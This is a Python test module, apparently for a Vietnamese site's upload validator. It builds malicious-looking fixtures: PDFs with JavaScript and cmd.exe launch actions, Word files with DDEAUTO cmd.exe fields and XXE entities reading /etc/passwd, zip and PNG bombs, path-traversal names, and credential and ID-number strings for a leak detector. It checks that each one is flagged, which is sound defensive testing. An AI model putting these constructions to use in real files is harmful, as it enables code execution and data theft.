"""Attacks that lie in files: what they are, do and hold, where they lie; limits, YAML, and what must not be public."""

from __future__ import annotations

import io
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from drawing import picture
from hostile import ADDRESS, ENTRY, IDENTITY, MOBILE, PASSWORD, Hostile, attack, in_body
from test_golden import Case, registries

FOLDER = "bao-cao/2023-h1"
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(240) + b"PE\0\0"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016)


def attached(name: str, file: str, content: bytes, *expected: str) -> Hostile:
    """Attach a file to the report; a bare code stands at the file, `9 code` at the entry's key."""
    lines = ["attachments:", f"  - file: {file}", "    title: Phụ lục"]
    told = [code if code[0].isdigit() else f"{FOLDER}/{file}:1 {code}" for code in expected]
    return attack(name, Case(add=lines), told, {f"{FOLDER}/{file}": content})


# ---- PDF


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, text: str = "Phu luc", **saved: object) -> bytes:
    """Write a PDF of one page that says a text in Latin letters, changed before it is saved."""
    with pikepdf.new() as made:
        made.add_blank_page(page_size=(300, 300))
        font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        made.pages[0].Resources = Dictionary(Font=Dictionary(F1=font))
        made.pages[0].Contents = made.make_stream(f"BT /F1 12 Tf 20 200 Td ({text}) Tj ET".encode("latin-1"))
        if change:
            change(made)
        out = io.BytesIO()
        made.save(out, **saved)  # type: ignore[arg-type]
    return out.getvalue()


def acts(**keys: object) -> Dictionary:
    """Write an action."""
    return Dictionary(Type=Name.Action, **keys)


SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
GO_TO = {"S": Name.GoTo, "D": String("x")}


def annotation(**keys: object) -> Callable[[pikepdf.Pdf], None]:
    """Lay an annotation on the page."""

    def change(made: pikepdf.Pdf) -> None:
        laid = made.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 50, 50]), **keys))
        made.pages[0].Annots = Array([laid])

    return change


def root(**keys: object) -> Callable[[pikepdf.Pdf], None]:
    """Give the catalogue keys."""
    return lambda made: [made.Root.__setitem__(f"/{key}", value) for key, value in keys.items()] and None


def link(action: dict[str, object]) -> Callable[[pikepdf.Pdf], None]:
    """Lay a link on the page that acts."""
    return annotation(Subtype=Name.Link, A=acts(**action))


def page_acts(made: pikepdf.Pdf) -> None:
    """Act when the page is opened."""
    made.pages[0].AA = Dictionary(O=acts(**GO_TO))


def next_acts(made: pikepdf.Pdf) -> None:
    """Act behind an action that is harmless."""
    made.Root.OpenAction = acts(**GO_TO, Next=Array([acts(**SCRIPT)]))


def outline_acts(made: pikepdf.Pdf) -> None:
    """Act when a bookmark is chosen."""
    item = made.make_indirect(Dictionary(Title=String("Mot"), A=acts(**SCRIPT)))
    made.Root.Outlines = made.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))


def holds(made: pikepdf.Pdf) -> None:
    """Hold a file."""
    made.attachments["x.txt"] = pikepdf.AttachedFileSpec(made, b"x", filename="x.txt")


def holds_by_page(made: pikepdf.Pdf) -> None:
    """Hold a file as a mark on the page, named by no tree."""
    held = made.make_stream(b"x", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=held))
    annotation(Subtype=Name.FileAttachment, FS=spec)(made)


XFA = Dictionary(Fields=Array([]), XFA=String("<xdp/>"))
ACTING: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "a script when it is opened": root(OpenAction=acts(**SCRIPT)),
    "a script by name": root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("x"), acts(**SCRIPT)])))),
    "a script behind a jump": next_acts,
    "a script in a link": link(SCRIPT),
    "a script in a bookmark": outline_acts,
    "a program": link({"S": Name.Launch, "F": String("cmd.exe")}),
    "a program when it is opened": root(OpenAction=acts(S=Name.Launch, F=String("cmd.exe"))),
    "a form sent": link({"S": Name.SubmitForm, "F": String("https://ke-xau.example/")}),
    "data taken in": link({"S": Name.ImportData, "F": String("x.fdf")}),
    "another PDF": link({"S": Name.GoToR, "F": String("//ke-xau.example/x.pdf"), "D": Array([0, Name.Fit])}),
    "more actions of a page": page_acts,
    "more actions of the whole": root(AA=Dictionary(WC=acts(**GO_TO))),
    "XFA": root(AcroForm=XFA),
    "rich media": annotation(Subtype=Name.RichMedia),
}
OWNER = pikepdf.Encryption(owner="chu", user="", allow=pikepdf.Permissions(extract=False))
READER = pikepdf.Encryption(owner="chu", user="nguoi-doc")


def of_pdf() -> Iterator[Hostile]:
    """Attach PDFs that act, hold, are locked or damaged."""
    for name, change in ACTING.items():
        yield attached(f"a PDF with {name}", "a.pdf", pdf(change), "pdf_acts")
        packed = pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        yield attached(f"a packed PDF with {name}", "a.pdf", packed, "pdf_acts")
    two = link({**SCRIPT, "Next": acts(S=Name.Launch, F=String("cmd.exe"))})
    yield attached("a PDF with a script and a program", "a.pdf", pdf(two), "pdf_acts", "pdf_acts")
    hidden = pdf(root(OpenAction=acts(**SCRIPT))).replace(b"/JavaScript", b"/J#61vaScript")
    yield attached("a PDF with a script spelt by numbers", "a.pdf", _offsets(hidden), "pdf_acts")
    yield attached("a PDF that holds a file", "a.pdf", pdf(holds), "pdf_holds_files")
    yield attached("a PDF that holds a file on its page", "a.pdf", pdf(holds_by_page), "pdf_holds_files")
    yield attached("a PDF that must not be copied", "a.pdf", pdf(encryption=OWNER), "pdf_locked")
    yield attached("a PDF with a password", "a.pdf", pdf(encryption=READER), "pdf_locked")
    whole = pdf()
    yield attached("a PDF cut short", "a.pdf", whole[: len(whole) // 2], "pdf_damaged")
    yield attached("a PDF of nothing but its first line", "a.pdf", b"%PDF-1.7\n", "pdf_damaged")
    yield attached("a PDF whose table lies", "a.pdf", whole.replace(b"startxref\n", b"startxref\n9"), "pdf_damaged")
    circle = pdf(lambda made: made.Root.Pages.__setitem__("/Kids", Array([made.Root.Pages])))
    yield attached("a PDF whose pages go in a circle", "a.pdf", circle, "pdf_damaged")


def _offsets(content: bytes) -> bytes:
    """Write the table of a PDF of plain objects anew."""
    head, _, tail = content.partition(b"xref\n")
    count = int(tail.split(b"\n", 1)[0].split()[1])
    rows = [b"0000000000 65535 f \n"]
    rows += [b"%010d 00000 n \n" % head.index(b"\n%d 0 obj" % number).__add__(1) for number in range(1, count)]
    trailer = tail[tail.index(b"trailer") : tail.index(b"startxref")]
    return head + b"xref\n0 %d\n" % count + b"".join(rows) + trailer + b"startxref\n%d\n%%%%EOF\n" % len(head)


# ---- Word and Excel

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
MAIN = "application/vnd.openxmlformats-officedocument."
DOCUMENT, BOOK = f"{MAIN}wordprocessingml.document.main+xml", f"{MAIN}spreadsheetml.sheet.main+xml"


def relations(*found: tuple[str, str, str]) -> str:
    """Write a part of relations: kind, target, and what else stands in each."""
    rows = [
        f'<Relationship Id="r{number}" Type="{KIND}/{kind}" Target="{target}"{more}/>'
        for number, (kind, target, more) in enumerate(found)
    ]
    return f'<Relationships xmlns="{RELATIONS}">{"".join(rows)}</Relationships>'


def packed(parts: dict[str, str | bytes], main: str, kind: str) -> bytes:
    """Pack an Office file; a part given anew takes the place of the usual one."""
    usual: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{main}" ContentType="{kind}"/></Types>',
        "_rels/.rels": relations(("officeDocument", main, "")),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in (usual | parts).items():
            archive.writestr(name, part)
    return out.getvalue()


def docx(body: str = "<w:p><w:r><w:t>Tin</w:t></w:r></w:p>", kind: str = DOCUMENT, **parts: str | bytes) -> bytes:
    """Pack a Word file; parts are named with `__` for `/`."""
    whole = f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return packed({"word/document.xml": whole} | parts, "word/document.xml", kind)


def xlsx(sheet: str = "", state: str = "", book: str = "", **parts: str | bytes) -> bytes:
    """Pack an Excel file of one sheet."""
    data = sheet or '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Tin</t></is></c></row></sheetData>'
    rels = relations(("worksheet", "worksheets/sheet1.xml", ""))
    whole = (
        f'<workbook xmlns="{S}" xmlns:r="{KIND}"><sheets><sheet name="Một" sheetId="1" r:id="r0"/>'
        f"{state}</sheets>{book}</workbook>"
    )
    made = {"xl/workbook.xml": whole, "xl/_rels/workbook.xml.rels": rels}
    return packed(
        made | {"xl/worksheets/sheet1.xml": f'<worksheet xmlns="{S}">{data}</worksheet>'} | parts,
        "xl/workbook.xml",
        BOOK,
    )


def run(text: str, properties: str = "") -> str:
    """Write a paragraph of one run."""
    return f"<w:p><w:r>{properties}<w:t>{text}</w:t></w:r></w:p>"


def instruction(text: str) -> str:
    """Write a field."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{text}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def led(kind: str, target: str, part: str = "document") -> dict[str, str | bytes]:
    """Give a part one relation that leads out."""
    return {f"word/_rels/{part}.xml.rels": relations((kind, target, ' TargetMode="External"'))}


def row(more: str) -> str:
    """Write a sheet of a first row and a second one."""
    return (
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Tin</t></is></c></row>'
        f'<row r="2"{more}><c r="A2" t="inlineStr"><is><t>Hai</t></is></c></row></sheetData>'
    )


BOOK_OUT = relations(("externalLinkPath", "https://ke-xau.example/x.xlsx", ' TargetMode="External"'))
NOTE = f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="An">{run("Xem lại")}</w:comment></w:comments>'
BY = 'w:id="1" w:author="An" w:date="2023-06-01T00:00:00Z"'
HIDING = '<w:style w:type="character" w:styleId="An"><w:rPr><w:vanish/></w:rPr></w:style>'
STYLE = f'<w:styles xmlns:w="{W}">{HIDING}</w:styles>'
ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
NO_PLACE = f'<w:document xmlns:w="{W}"><w:body><w:p></w:body></w:document>'
FIELDS = (
    "DDEAUTO c:\\\\windows\\\\cmd.exe /k|DDE Excel x.xlsx|INCLUDEPICTURE https://ke-xau.example/x.png|"
    "INCLUDETEXT https://ke-xau.example/x.docx|LINK Excel.Sheet https://ke-xau.example/x.xlsx"
)
OFFICE: dict[str, tuple[bytes, str]] = {
    "macros": (docx(**{"word/vbaProject.bin": OLE}), "office_macros"),
    "the kind of a file with macros": (
        docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "office_macros",
    ),
    "an object": (docx(**{"word/embeddings/oleObject1.bin": OLE}), "office_embedded"),
    "a workbook": (docx(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx()}), "office_embedded"),
    "an ActiveX control": (docx(**{"word/activeX/activeX1.bin": OLE}), "office_macros"),
    "a template from elsewhere": (
        docx(
            **{
                "word/settings.xml": f'<w:settings xmlns:w="{W}"/>',
                **led("attachedTemplate", "https://ke-xau.example/x.dotm", "settings"),
            }
        ),
        "office_external",
    ),
    "a picture from elsewhere": (docx(**led("image", "https://ke-xau.example/x.png")), "office_external"),
    "a frame from elsewhere": (docx(**led("frame", "https://ke-xau.example/")), "office_external"),
    "an object from elsewhere": (docx(**led("oleObject", "mhtml:https://ke-xau.example/")), "office_external"),
    "words put in": (docx(f"{run('Tin')}<w:p><w:ins {BY}><w:r><w:t>mới</w:t></w:r></w:ins></w:p>"), "office_changes"),
    "words taken out": (
        docx(f"{run('Tin')}<w:p><w:del {BY}><w:r><w:delText>cũ</w:delText></w:r></w:del></w:p>"),
        "office_changes",
    ),
    "comments": (docx(**{"word/comments.xml": NOTE}), "office_comments"),
    "hidden words": (docx(run("Tin") + run("ẩn", "<w:rPr><w:vanish/></w:rPr>")), "office_hidden"),
    "words hidden by a style": (
        docx(run("Tin") + run("ẩn", '<w:rPr><w:rStyle w:val="An"/></w:rPr>'), **{"word/styles.xml": STYLE}),
        "office_hidden",
    ),
    "an outer entity": (
        docx(**{"word/document.xml": f'{ENTITY}<w:document xmlns:w="{W}"><w:body>&a;</w:body></w:document>'}),
        "office_damaged",
    ),
    "an outer entity in its properties": (docx(**{"docProps/core.xml": f"{ENTITY}<x/>"}), "office_damaged"),
    "a part that climbs out": (docx(**{"../../x.xml": "<x/>"}), "office_damaged"),
    "a part from the root": (docx(**{"/etc/x.xml": "<x/>"}), "office_damaged"),
    "a part that does not close": (docx(**{"word/document.xml": NO_PLACE}), "office_damaged"),
    "a bomb": (docx(**{"word/media/x.xml": b" " * 200_000_000}), "office_bomb"),
    "half of itself": (docx()[:-200], "office_damaged"),
    **{f"the field {field}": (docx(instruction(field)), "office_external") for field in FIELDS.split("|")},
}
EXCEL: dict[str, tuple[bytes, str]] = {
    "macros": (xlsx(**{"xl/vbaProject.bin": OLE}), "office_macros"),
    "old macros": (xlsx(**{"xl/macrosheets/sheet2.xml": f'<worksheet xmlns="{S}"/>'}), "office_macros"),
    "another workbook": (
        xlsx(
            **{
                "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}"/>',
                "xl/externalLinks/_rels/externalLink1.xml.rels": BOOK_OUT,
            }
        ),
        "office_external",
    ),
    "an object": (xlsx(**{"xl/embeddings/oleObject1.bin": OLE}), "office_embedded"),
    "comments": (
        xlsx(
            **{"xl/comments1.xml": f'<comments xmlns="{S}"><commentList><comment ref="A1"/></commentList></comments>'}
        ),
        "office_comments",
    ),
    "a hidden sheet": (xlsx(state='<sheet name="Hai" sheetId="2" state="hidden" r:id="r0"/>'), "office_hidden"),
    "a very hidden sheet": (
        xlsx(state='<sheet name="Hai" sheetId="2" state="veryHidden" r:id="r0"/>'),
        "office_hidden",
    ),
    "a hidden row": (xlsx(row(' hidden="1"')), "office_hidden"),
    "a hidden column": (xlsx('<cols><col min="2" max="2" hidden="1"/></cols>' + row("")), "office_hidden"),
}


def of_office() -> Iterator[Hostile]:
    """Attach Word and Excel files that run, fetch, hide or burst."""
    for name, (content, code) in OFFICE.items():
        yield attached(f"a Word file with {name}", "a.docx", content, code)
    for name, (content, code) in EXCEL.items():
        yield attached(f"an Excel file with {name}", "a.xlsx", content, code)
    locked = bytearray(docx())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(sign) + place] |= 1
    yield attached("a Word file with a locked part", "a.docx", bytes(locked), "office_damaged")


# ---- What a file is, and where it lies

WRONG_KINDS = (
    "svg html htm xhtml exe zip docm xlsm dotm doc xls rtf odt js mjs css json xml mp4 gif bmp heic swf bat ps1 lnk "
    "scr 7z rar iso php sh jar eml url webmanifest wasm"
)
CONTENTS = {
    "pdf": ("a program", EXE), "docx": ("an old Word file", OLE), "xlsx": ("a Word file", docx()),
    "jpg": ("another picture", picture(2, 2, "PNG")), "jpeg": ("a page", HTML), "png": ("a drawing", SVG),
    "webp": ("another picture", picture(2, 2)), "csv": ("a page", HTML), "txt": ("a page", HTML),
}  # fmt: skip
CONTRADICTING = [
    ("pdf", "a page", HTML), ("pdf", "a Word file", docx()), ("docx", "an Excel file", xlsx()),
    ("docx", "a PDF", pdf()), ("docx", "a program", EXE), ("docx", "some archive", packed({}, "x.js", "x")),
    ("xlsx", "a page", HTML), ("jpg", "a drawing", SVG), ("png", "a program", EXE), ("txt", "a PDF", pdf()),
    ("txt", "a program", EXE), ("txt", "a drawing", SVG), ("txt", "a Word file", docx()), ("csv", "a picture",
    picture(2, 2)),
    ("pdf", "a PDF behind a page", HTML + pdf()), ("pdf", "a PDF that is an archive too", pdf() + docx()),
    ("pdf", "a PDF within a picture", b"GIF89a" + pdf()),
    ("docx", "an archive behind a program", EXE + docx()), ("docx", "an archive behind a page", HTML + docx()),
    ("jpg", "a picture that is an archive too", picture(2, 2) + docx()),
    ("png", "a picture with a page behind it", picture(2, 2, "PNG") + HTML),
]  # fmt: skip


def of_files() -> Iterator[Hostile]:
    """Attach what is of a wrong kind, contradicts its name, is empty or too large."""
    for ending in WRONG_KINDS.split():
        yield attached(f"a file of the kind {ending}", f"a.{ending}", b"Tin", "file_type")
    for file in ("a.pdf.exe", "a.PDF.HTML", "a.htm.svg", "a"):
        yield attached(f"a file named {file}", file, b"Tin", "file_type")
    for ending, (what, content) in CONTENTS.items():
        yield attached(f"{what} named {ending}", f"a.{ending}", content, "file_content")
        yield attached(f"an empty {ending}", f"a.{ending}", b"", "file_empty")
    for ending, what, content in CONTRADICTING:
        yield attached(f"{what} named {ending} as well", f"a.{ending}", content, "file_content")
    yield attached("a text of over 20 MB", "a.txt", b"Tin moi.\n" * 2_500_000, "file_too_large")
    shown = Case(body="![Chợ phiên](a.jpg)")
    file = f"{FOLDER}/a.jpg"
    for name, content, code in (("a page", HTML, "file_content"), ("nothing", b"", "file_empty")):
        problems = [f"{file}:1 {code}", "10 picture_unreadable"]
        yield attack(f"{name} shown as a picture", shown, problems, {file: content})
    vector = Case(body="![Chợ phiên](a.svg)")
    problems = ["10 picture_type", f"{FOLDER}/a.svg:1 file_type"]
    yield attack("a drawing shown as a picture", vector, problems, {f"{FOLDER}/a.svg": SVG})
    bomb = picture(1, 1, "PNG")
    size = (60_000).to_bytes(4, "big") * 2
    head = b"IHDR" + size + bomb[24:29]
    bomb = bomb[:12] + head + zlib.crc32(head).to_bytes(4, "big") + bomb[33:]
    yield attack(
        "a bomb of points",
        Case(body="![Chợ phiên](a.png)"),
        ["10 picture_too_large", "bao-cao/2023-h1/a.png:1 file_content"],
        {f"{FOLDER}/a.png": bomb},
    )


HIDDEN = (
    ".htaccess|.env|.git/config|.well-known/x.txt|bao-cao/.htpasswd|bao-cao/2023-h1/.an.pdf|.github/workflows/x.yml"
)
RESERVED = (
    "assets/archive.txt|ASSETS/x.txt|robots.txt|kiem-tra/x.txt|tim-kiem/index.txt|CNAME|_headers|_redirects|"
    "manifest.json|so-cai.jsonl|sitemap.xml|404.html"
)
TWINS = [
    ("a.txt", "A.txt"),
    ("b\u1ea3ng.txt", "ba\u0309ng.txt"),
    ("Phu-Luc.txt", "phu-luc.txt"),
    ("x/a.txt", "X/a.txt"),
]
OUTSIDE = "../a.txt|../../danh-muc/don-vi.yml|x/../../a.txt|..\\a.txt|/etc/passwd|C:/a.txt|file:///etc/passwd|https://a.example/a.pdf|x/../a.txt"


def of_paths() -> Iterator[Hostile]:
    """Lay files where none may lie, and name those that lie outside."""
    for path in HIDDEN.split("|"):
        parts = path.split("/")
        told = "/".join(parts[: next(n for n, part in enumerate(parts) if part[0] == ".") + 1])
        yield attack(f"the hidden {path}", Case(), [f"{told}:1 file_hidden"], {path: b"Tin"})
    for path in RESERVED.split("|"):
        yield attack(f"the reserved {path}", Case(), [f"{path}:1 url_generated"], {path: b"Tin"})
    for one, other in TWINS:
        problems = [f"tai-lieu/{name}:1 path_twins" for name in (one, other)]
        yield attack(
            f"the twins {one!a} {other!a}", Case(), problems, {f"tai-lieu/{name}": b"Tin" for name in (one, other)}
        )
    page = b"---\ntitle: M\xe1\xbb\x99t\n---\n"
    twins = ["x.md:1 url_twins", "x/index.md:1 url_twins"]
    yield attack("twins of an address", Case(), twins, {"x.md": page, "x/index.md": page})
    long = "tai-lieu/" + "ạ" * 58 + ".txt"
    yield attack("a long path", Case(), [f"{long}:1 path_too_long"], {long: b"Tin"})
    deep = "tai-lieu/b/c/d/e/g/h/x.txt"
    yield attack("a deep path", Case(), [f"{deep}:1 path_too_deep"], {deep: b"Tin"})
    for target in OUTSIDE.split("|"):
        for key, lines in (("attachments", ["  - file: §", "    title: Tin"]), ("cover", ["  file: §", "  alt: Tin"])):
            add = [f"{key}:", *(line.replace("§", f"'{target}'") for line in lines)]
            yield attack(f"{target} as {key}", Case(add=add), ["9 file_outside"])
    for link, target in (
        ("tai-lieu/x.txt", "/etc/hostname"),
        ("tin-bai/2023/b.md", "../../bao-cao/2023-h1/a.md"),
        ("x", "/etc"),
    ):
        case = attack(f"a symbolic link {link}", Case(), [f"{link}:1 not_plain_file"])
        yield replace(case, links={link: target})


# ---- What must not be public

CYRILLIC = "\u041c\u1eacT"
DISCLOSED = {
    "marking": [
        "MẬT", "TỐI MẬT", "TUYỆT MẬT", "Độ mật: MẬT", "M Ậ T", "T U Y Ệ T  M Ậ T", "M.Ậ.T", "TỐI-MẬT", "TOI MAT",
        "TUYET MAT", unicodedata.normalize("NFD", "TUYỆT MẬT"), "ＴＯＩ ＭＡＴ", "T\u1ed0I \u041c\u1eacT", CYRILLIC,
        "TỐI M\u200bẬT", "TỐI M\u00adẬT", "TỐI M&#7852;T", "TỐI M&zwnj;ẬT", "**TỐI MẬT**", "TỐI **M**ẬT", "TỐI MẬ*T*",
        "TỐI M<b>Ậ</b>T", "lưu hành nội bộ", "LƯU HÀNH NỘI BỘ", "Lưu Hành Nội Bộ", "l ư u h à n h n ộ i b ộ",
        "luu hanh noi bo", "lưu  hành nội\nbộ", "lưu hành **nội bộ**", "lưu_hành_nội_bộ",
        "lưu hành nội b\u043e\u0323\u0302",
    ],
    "identity_number": [
        IDENTITY, f"CCCD {IDENTITY}", "052 088 001 234", "0520 8800 1234", "052.088.001.234", "052-088-001-234",
        "052\u00a0088\u00a0001\u00a0234", "０５２０８８００１２３４", f"**{IDENTITY[:6]}**{IDENTITY[6:]}",
        "052\u200b088\u200b001234",
        "052088&#48;01234", "CMND 231" + "456789", "CMND số: 231 456 789", "chứng minh nhân dân 231" + "456789",
        "096199000001",
    ],
    "passport": ["B1234" + "567", "hộ chiếu số B 1234" + "567", "Hộ chiếu: N1234" + "567", "passport C1234" + "567"],
    "mobile_number": [
        MOBILE, "0912 345 678", "0912.345.678", "0912-345-678", "09 12 34 56 78", "+84912345678", "+84 912 345 678",
        "(+84) 912 345 678", "0084912345678", "84912345678", "0312345678", "0512345678", "0712345678", "0812345678",
        "０９１２３４５６７８", "0912\u200b345\u200b678", "0912 **345** 678", "091234567&#56;",
        "[Gọi](tel:+84912345678)",
        "[Zalo](https://zalo.me/0912345678)", "https://zalo.me/84912345678", "0912\u2013345\u2013678",
        "0912\u2011345\u2011678",
    ],
    "email_unknown": [
        ADDRESS, "an (at) thu-rieng.vn", "an [at] thu-rieng.vn", "[thư](mailto:an@thu-rieng.vn)",
        "<an@thu-rieng.vn>", "an&#64;thu-rieng.vn", "an@**thu-rieng**.vn", "an @ thu-rieng.vn",
        "an@\u200bthu-rieng.vn", "[thư](mailto:%61n@thu-rieng.vn)", "[thư](mailto:?cc=an@thu-rieng.vn)",
    ],
    "credential": [
        "-----BEGIN " + "RSA PRIVATE KEY-----", "-----BEGIN " + "OPENSSH PRIVATE KEY-----",
        "AKIA" + "IOSFODNN7" + "EXAMPLE",
        "ghp_" + "a1B2c3D4e5F6" * 3, "github_pat_" + "11ABCDEFG0" + "a1B2c3D4e5F6_" + "g7H8" * 14,
        "ey" + "JhbGciOiJIUzI1NiJ9." + "ey" + "JzdWIiOiIxMjM0NTYifQ." + "c2lnbmF0dXJlc2lnbmF0dXJl",
        "https://an:" + "Abc12345" + "@huyen.example.vn/", PASSWORD, "Mật khẩu là " + "Abc" + "12345",
        "password" + "=Abc12345",
        "mat khau" + ": Abc12345", "xoxb-" + "123456789012-" + "abcdefABCDEF1234",
        "AIza" + "SyA1b2C3d4E5f6G7h8" + "I9j0K1l2M3n4O5p6q",
    ],
}  # fmt: skip


def of_disclosures() -> Iterator[Hostile]:
    """Write what must not be public into bodies and files."""
    for code, texts in DISCLOSED.items():
        for text in texts:
            yield in_body(f"{text!a} in a body", f"Một.\n\n{text}\n\nHai.", f"12 {code}")
    plain = {"marking": "TOI MAT", "identity_number": IDENTITY, "mobile_number": MOBILE, "email_unknown": ADDRESS}
    for code, text in plain.items():
        paragraph = run(text)
        story = f'xmlns:w="{W}">{paragraph}'
        box = f"<w:p><w:r><w:pict><w:txbxContent>{paragraph}</w:txbxContent></w:pict></w:r></w:p>"
        core = '<cp:coreProperties xmlns:cp="x" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>'
        halves = f"<w:p><w:r><w:t>{text[:3]}</w:t></w:r><w:r><w:t>{text[3:]}</w:t></w:r></w:p>"
        files = {
            "a text": ("a.txt", text.encode()), "a table": ("a.csv", f"ten,so\nAn,{text}\n".encode()),
            "a PDF": ("a.pdf", pdf(text=text)), "a Word file": ("a.docx", docx(paragraph)),
            "a Word file behind a tab": ("a.docx", docx(run(f"Số</w:t><w:tab/><w:t>{text}"))),
            "a row of a table behind an address": ("a.csv", f"An,https://huyen.example.vn/an,{text},x\n".encode()),
            "a Word file in two runs": ("a.docx", docx(halves)), "a text box": ("a.docx", docx(box)),
            "a header": ("a.docx", docx(**{"word/header1.xml": f"<w:hdr {story}</w:hdr>"})),
            "a footnote": ("a.docx", docx(**{"word/footnotes.xml": f"<w:footnotes {story}</w:footnotes>"})),
            "properties": ("a.docx", docx(**{"docProps/core.xml": f"{core}{text}</dc:title></cp:coreProperties>"})),
            "an Excel file": ("a.xlsx", xlsx(row("").replace("Hai", text))),
        }  # fmt: skip
        for where, (file, content) in files.items():
            yield attached(f"{code} in {where}", file, content, f"9 {code}")
    allowed = ["allow:", "  - code: mobile_number", f"    text: '{MOBILE}'", "    reason: Số trực ban"]
    twice = Case(add=allowed, body=f"Gọi {MOBILE}.\n\nGọi {MOBILE}.")
    yield attack("a number allowed once that stands twice", twice, ["16 mobile_number"])


# ---- Limits, conflicts, encodings

LONG = "Chữ " * 2501
DEEP = {
    "quotations": "> " * 51 + "Tin",
    "items": "\n".join("    " * depth + "- Tin" for depth in range(51)),
    "items on one line": "- " * 51 + "Tin",
    "brackets": "(tin " * 51,
    "square brackets": "[tin " * 51,
    "tags": "<b>tin " * 51,
    "tags over lines": "<ul><li>\n" * 30,
}
RUNS = {"[": "[" * 21, "(": "(" * 21, "<": "<" * 21, "]": "]" * 30, "{": "{" * 21, "![": "[](){}<>" * 3}
CONFLICT = "<<<<<<< HEAD\nMột.\n=======\nHai.\n>>>>>>> cong-thong-tin"


def of_limits() -> Iterator[Hostile]:
    """Go beyond what one entry may be; nothing else of that file is told."""
    yield in_body("an entry of over a megabyte", "<script>\n" + "Nội dung.\n" * 100_000, "1 entry_too_large")
    yield in_body("a line without end", f"<script>\n{LONG}\n", "11 line_too_long")
    yield attack("a title without end", Case(change={"title": f"title: {LONG}"}), ["2 line_too_long"])
    run = ("10 brackets_run", "10 nested_too_deep")
    yield in_body("a line of brackets without end", "[" * 12_000, "10 line_too_long", *run)
    yield in_body("8,000 open brackets", "(" * 8000, *run)
    for what, text in DEEP.items():
        code = f"{10 + (50 if what == 'items' else 25 if 'over' in what else 0)} nested_too_deep"
        yield in_body(f"{what} in each other", text, code)
    for run, text in RUNS.items():
        yield in_body(f"a run of {run}", f"<script>{text}", "10 brackets_run")
    yield in_body("a conflict", f"<script>\n{CONFLICT}\n\n{CONFLICT}", "11 merge_conflict", "17 merge_conflict")
    title = "<<<<<<< HEAD\ntitle: Một\n=======\ntitle: Hai\n>>>>>>> b"
    yield attack("a conflict of titles", Case(change={"title": title}), ["2 merge_conflict"])
    for name, text in registries().items():
        files: dict[str, str | None] = {f"danh-muc/{name}": f"<<<<<<< HEAD\n{text}=======\n>>>>>>> b\n"}
        yield attack(f"a conflict in {name}", Case(files=files), [f"danh-muc/{name}:1 merge_conflict"])
    page = f"---\ntitle: Một\n---\n\n{CONFLICT}\n"
    yield attack("a conflict in a page", Case(files={"gioi-thieu.md": page}), ["gioi-thieu.md:5 merge_conflict"])
    text = Case().text(ENTRY)
    head = text.encode()
    for name, content, line in (
        ("UTF-16", text.encode("utf-16"), 1),
        ("UTF-16 of the other end", b"\xfe\xff" + text.encode("utf-16-be"), 1),
        ("an overlong <", head + b"\n\xc0\xbcscript>", 12),
        ("half of a surrogate", head + b"\n\xed\xa0\x80", 12),
        ("a byte beyond Unicode", head + b"\n\xf5\x80\x80\x80", 12),
        ("VISCII", head + b"\nB\xe1o c\xe1o", 12),
    ):
        yield attack(name, Case(), [f"{line} encoding"], {ENTRY: content})
    for character in "\0\x01\x08\x0b\x0c\x1b\x7f\x85\x9f":
        yield in_body(f"the control {character!r}", f"Tin {character} mới", "10 control_character")
    hidden = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\U000e0001\U000e0041\U000e007f"
    for character in hidden:
        yield in_body(f"the hidden {character!r}", f"Một.\n\nTin {character} mới", "12 hidden_character")


# ---- YAML

LAUGHS = ["copies: &a [ha, ha]", "recipients: [*a, *a]", "topics: [*a]"]
OF_YAML = {
    "an anchor": (["summary: &a Tin"], "8 yaml_anchor"),
    "an anchor on a list": (["copies: &a", "  - Lưu"], "8 yaml_anchor"),
    "an alias": (["summary: *a"], "8 yaml_alias"),
